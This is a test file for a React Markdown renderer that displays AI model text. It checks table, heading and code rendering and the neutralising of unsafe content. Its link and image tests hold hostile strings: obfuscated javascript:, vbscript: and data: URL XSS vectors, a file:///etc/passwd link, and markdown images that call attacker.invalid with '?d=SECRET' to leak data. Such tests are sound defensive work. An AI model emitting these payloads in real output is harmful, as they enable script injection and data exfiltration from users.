import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeAll, describe, expect, it } from 'vitest';
import { Markdown } from '../../src/ui/markdown/Markdown.tsx';
import { safeHref } from '../../src/ui/markdown/safe-href.ts';
import { loadLexer } from '../../src/ui/markdown/use-lexer.ts';

beforeAll(loadLexer);

function draw(text: string, isOpen = false) {
  return render(<Markdown text={text} isOpen={isOpen} />);
}

describe('Markdown', () => {
  it('draws what models write: tables, tasks, nested lists, quotes, rules', () => {
    draw(
      '| a | b |\n| - | -: |\n| 1 | **2** |\n\n- [x] done\n- [ ] open\n  1. deep\n\n> said\n\n---',
    );
    expect(screen.getByRole('columnheader', { name: 'a' })).toBeVisible();
    expect(within(screen.getByRole('cell', { name: '2' })).getByText('2').tagName).toBe('STRONG');
    expect(screen.getByRole('checkbox', { name: 'done' })).toBeChecked();
    expect(screen.getByRole('checkbox', { name: 'to do' })).not.toBeChecked();
    expect(screen.getByText('deep').closest('ol')).not.toBeNull();
    expect(screen.getByText('said').closest('blockquote')).not.toBeNull();
    expect(screen.getByRole('separator')).toBeInTheDocument();
  });

  it('makes every heading an h3, so that the page keeps its outline', () => {
    draw('# one\n\n#### four');
    for (const heading of screen.getAllByRole('heading')) expect(heading.tagName).toBe('H3');
  });

  it('shows raw HTML as text and makes no element of it', () => {
    const { container } = draw('<script>alert(1)</script>\n\nand <b onclick="x">inline</b>');
    expect(container.querySelector('script, b')).toBeNull();
    expect(container).toHaveTextContent('<script>alert(1)</script>');
    expect(container).toHaveTextContent('<b onclick="x">inline</b>');
  });

  it('resolves character references in text and leaves code alone', () => {
    const { container } = draw('&lt;tag&gt; &copy; &#65; `&amp;`');
    expect(container).toHaveTextContent('<tag> © A &amp;');
  });

  it('copies all of a code block', async () => {
    const user = userEvent.setup();
    draw('```ts\nconst a = 1;\n```');
    await user.click(screen.getByRole('button', { name: 'Copy the code' }));
    expect(await navigator.clipboard.readText()).toBe('const a = 1;\n');
    expect(screen.getByText('ts')).toBeVisible();
  });

  it('leaves finished blocks alone while the text grows', () => {
    const { container, rerender } = draw('first **block**\n\nsec', true);
    const before = container.querySelector('p');
    rerender(<Markdown text={'first **block**\n\nsecond and more'} isOpen />);
    expect(container.querySelector('p')).toBe(before);
    expect(container).toHaveTextContent('second and more');
  });

  it('shows a text that is nested too deep as it is', () => {
    const { container } = draw('>'.repeat(4_000));
    expect(container).toHaveTextContent('>'.repeat(4_000));
  });
});

describe('links in a model’s text', () => {
  const hostile =
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) ' +
    '[d](javascript&colon;alert(1)) [e](\u0001javascript:alert(1)) ' +
    '[f](data:text/html,<script>alert(1)</script>) [g](vbscript:x) ' +
    '[h](<java\tscript:alert(1)>) [i](//attacker.invalid) [ok](https://example.com)';

  it('are made only for web and mail addresses', () => {
    const { container } = draw(hostile);
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.href)).toEqual(['https://example.com/']);
    expect(links[0]).toHaveAttribute('rel', 'noopener noreferrer');
    expect(links[0]).toHaveAttribute('target', '_blank');
  });

  it('show the address that they may not lead to', () => {
    draw('[read me](javascript:alert(1))');
    expect(screen.getByTitle(/no link/)).toHaveTextContent('read me (javascript:alert(1))');
  });

  it.each([
    ['https://example.com/a?b=c', 'https://example.com/a?b=c'],
    ['HTTP://EXAMPLE.com', 'http://example.com/'],
    ['mailto:a@b.c', 'mailto:a@b.c'],
    ['&#104;ttps://example.com', 'https://example.com/'],
    ['java\u00adscript:alert(1)', null],
    ['\u200bjavascript:alert(1)', null],
    ['&Tab;javascript:alert(1)', null],
    ['blob:https://example.com/x', null],
    ['file:///etc/passwd', null],
    ['README.md', null],
    ['https://', null],
  ])('takes %j as %j', (address, href) => {
    expect(safeHref(address)).toBe(href);
  });
});

describe('images in a model’s text', () => {
  const hostile =
    '![p](https://attacker.invalid/p.png?d=SECRET) <img src="https://attacker.invalid/q.png"> ' +
    '[![x](https://attacker.invalid/r.png)](https://example.com) ![d](//attacker.invalid/s.png)';

  it('are never loaded: words, a mark and the address stand for them', () => {
    const { container } = draw(hostile);
    expect(container.querySelector('img, picture, object, iframe, svg image')).toBeNull();
    expect(screen.getAllByText('image blocked')).toHaveLength(3);
    expect(container).toHaveTextContent('https://attacker.invalid/p.png?d=SECRET');
  });
});
